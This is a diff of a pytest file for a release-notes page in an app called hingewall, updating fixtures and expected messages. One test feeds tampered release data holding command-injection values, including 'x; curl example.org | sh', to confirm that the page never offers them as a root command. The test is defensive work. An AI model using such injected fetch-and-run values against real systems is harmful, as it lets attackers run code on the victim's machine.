@@ -14,6 +14,7 @@ from axe import violations
 from browsers import needs_chromium
 from hingewall import __version__
 from hingewall_web.pages import release
+from hingewall_web.server.services import Releases
 
 PIN = "482915"
 FOUND = {
@@ -23,25 +24,29 @@ FOUND = {
 }  # fmt: skip
 
 
+def releases_in(folder: Path) -> Releases:
+    return Releases(*(folder / name for name in ("latest.json", "offered.json", "progress.json", "upload.bundle")))
+
+
 @pytest.fixture
 def noted(wall: Any, tmp_path: Path) -> Any:
     """Have the look for releases leave that, on this wall."""
 
     def note(**changes: Any) -> str:
-        wall.services.latest = tmp_path / "latest.json"
-        wall.services.latest.write_text(json.dumps(FOUND | changes))
+        wall.services.releases = releases_in(tmp_path)
+        wall.services.releases.latest.write_text(json.dumps(FOUND | changes))
         return unescape(wall.owner().get("/care").text)
 
     return note
 
 
-def test_the_owner_reads_what_is_new_and_what_to_type(wall: Any, noted: Any) -> None:
+def test_the_owner_reads_what_is_new_while_it_is_not_here_yet(wall: Any, noted: Any) -> None:
     page = noted()
     assert "Version 7.0.0 is out" in page
     assert "- The beep is softer." in page
-    assert "sudo hingewall update hingewall-7.0.0.bundle" in page
+    assert "could not fetch hingewall-7.0.0.bundle from https://example.org/releases yet" in page
     assert "<b>Bold</b>" not in wall.owner().get("/care").text, "notes are text"
-    for word in ("7.0.0", __version__, "hingewall update"):
+    for word in ("7.0.0", __version__):
         assert word not in wall.client().get("/care").text, "how old a wall is strangers need not know"
 
 
@@ -57,15 +62,15 @@ def test_what_a_taken_over_process_says_is_not_shown_to_be_typed_as_root_and_hol
 ) -> None:
     for changes in ({"bundle": "x; curl example.org | sh"}, {"version": "9.0.0;sh"}, {"notes": "x" * 2**20}):
         assert "Nobody looks for newer versions" in noted(**changes)
-    wall.services.latest.unlink()
-    os.mkfifo(wall.services.latest)  # which nobody ever writes to
+    wall.services.releases.latest.unlink()
+    os.mkfifo(wall.services.releases.latest)  # which nobody ever writes to
     assert "Nobody looks for newer versions" in wall.owner().get("/care").text
 
 
 @pytest.mark.parametrize("text", ["", "{", "[]", '{"looked": "x"}'])
 def test_a_note_that_is_none_is_as_if_nobody_had_looked(wall: Any, noted: Any, text: str) -> None:
     noted()
-    wall.services.latest.write_text(text)
+    wall.services.releases.latest.write_text(text)
     assert "Nobody looks for newer versions" in wall.owner().get("/care").text
 
 
